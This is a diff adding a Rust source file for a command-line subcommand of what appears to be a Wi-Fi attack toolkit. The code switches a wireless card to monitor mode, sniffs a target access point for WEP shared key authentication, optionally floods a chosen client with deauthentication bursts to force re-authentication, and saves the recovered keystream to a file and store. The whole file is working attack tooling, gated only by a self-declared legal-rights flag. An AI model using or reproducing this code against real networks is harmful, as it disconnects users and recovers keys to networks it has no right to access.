@@ -0,0 +1,153 @@
+use std::{
+    path::PathBuf,
+    sync::atomic::{self, AtomicBool},
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::MacAddress;
+use serde_json::json;
+
+use crate::{
+    deauth::DeauthAttack, keystream_store::KeystreamStore, shared_key_auth::SharedKeyAuthCapture,
+};
+
+use super::{
+    emit_deauth_sent, emit_event, enter_monitor_mode, lookup_channel, parse_mac_address, Args,
+    DeauthArgs,
+};
+
+#[derive(clap::Args)]
+pub struct SkaArgs {
+    #[arg(long, help = "The wireless device to sniff with")]
+    device: String,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        help = "The BSSID of the target access point"
+    )]
+    bssid: MacAddress,
+
+    #[arg(long, help = "The channel the target access point is on")]
+    channel: u32,
+
+    #[arg(
+        long,
+        short,
+        help = "The keystream file to write the recovered keystream to"
+    )]
+    output: PathBuf,
+
+    #[arg(
+        long,
+        help = "Also add the recovered keystream to this keystream store, creating it if it doesn't exist"
+    )]
+    keystream_store: Option<PathBuf>,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        requires = "confirm",
+        help = "Periodically deauthenticate this client to make it authenticate again"
+    )]
+    deauth: Option<MacAddress>,
+
+    #[arg(
+        long,
+        default_value_t = 10,
+        help = "How long to wait for an authentication after every deauth in seconds"
+    )]
+    deauth_interval: u64,
+
+    #[command(flatten)]
+    deauth_settings: DeauthArgs,
+
+    #[arg(
+        long,
+        default_value_t = 300,
+        help = "Give up after this many seconds without a captured authentication"
+    )]
+    timeout: u64,
+
+    #[arg(
+        long,
+        help = "Confirm that you have the legal rights to attack the target network"
+    )]
+    confirm: bool,
+}
+
+pub(super) fn run(ska_args: &SkaArgs, args: &Args, should_quit: &AtomicBool) -> anyhow::Result<()> {
+    if !ska_args.bssid.is_unicast() || ska_args.deauth.map_or(false, |dev| !dev.is_unicast()) {
+        anyhow::bail!("the BSSID and client MAC address must be unicast addresses");
+    }
+
+    //Switch to the target channel
+    let monitor = enter_monitor_mode(&ska_args.device, args)?;
+    monitor
+        .set_channel(lookup_channel(&monitor, ska_args.channel)?)
+        .context("failed to switch to the target channel")?;
+
+    let mut sniffer = monitor
+        .create_sniffer()
+        .context("failed to create packet sniffer")?;
+
+    //Wait for a client to authenticate, optionally forcing one to do so
+    let mut capture = SharedKeyAuthCapture::new(ska_args.bssid);
+    let timeout = Duration::from_secs(ska_args.timeout);
+    let mut deauth = ska_args.deauth.map(|client| {
+        DeauthAttack::new(ska_args.bssid, client, ska_args.deauth_settings.settings())
+    });
+    let interval = match deauth {
+        Some(_) => Duration::from_secs(ska_args.deauth_interval.max(1)),
+        None => timeout,
+    };
+
+    emit_event(json!({ "event": "ska_sniffing_started" }));
+
+    let start_time = Instant::now();
+    let keystream = loop {
+        if should_quit.load(atomic::Ordering::SeqCst) {
+            anyhow::bail!("interrupted");
+        }
+        if start_time.elapsed() >= timeout {
+            anyhow::bail!("no shared key authentication was captured");
+        }
+
+        if let Some(deauth) = &mut deauth {
+            deauth.send_burst(&mut sniffer)?;
+            emit_deauth_sent(deauth);
+        }
+
+        if let Some(keystream) = capture.capture(&mut sniffer, interval, should_quit)? {
+            break keystream;
+        }
+    };
+
+    //Save the keystream
+    keystream.save(&ska_args.output)?;
+    emit_event(json!({
+        "event": "keystream_saved",
+        "path": ska_args.output,
+        "iv": hex::encode(keystream.iv),
+        "keystream_len": keystream.keystream.len(),
+    }));
+
+    if let Some(store_path) = &ska_args.keystream_store {
+        let mut store = if store_path.exists() {
+            KeystreamStore::load(store_path)?
+        } else {
+            KeystreamStore::new()
+        };
+        store.insert(keystream);
+        store.save(store_path)?;
+
+        emit_event(json!({
+            "event": "keystream_store_saved",
+            "path": store_path,
+            "keystreams": store.len(),
+        }));
+    }
+
+    Ok(())
+}